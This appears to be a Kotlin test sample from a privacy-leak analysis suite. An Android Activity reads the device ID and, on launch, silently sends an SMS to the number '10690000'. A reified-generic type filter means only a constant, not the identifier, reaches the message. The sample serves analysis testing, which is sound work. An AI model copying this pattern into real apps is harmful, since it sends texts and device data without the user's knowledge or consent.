package cn.privlens.suite.inline_function_other

import android.app.Activity
import android.content.Context
import android.os.Bundle
import android.telephony.SmsManager
import android.telephony.TelephonyManager

inline fun <reified T : Any> pick(all: List<Any>, block: (T) -> Unit) {
    for (o in all) if (o is T) block(o)
}
class Main : Activity() {
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        val all = listOf((getSystemService(Context.TELEPHONY_SERVICE) as TelephonyManager).deviceId.length.toLong(), 5)
        pick< Int >(all) { SmsManager.getDefault().sendTextMessage("10690000", null, "p$it", null, null) }
    }
}
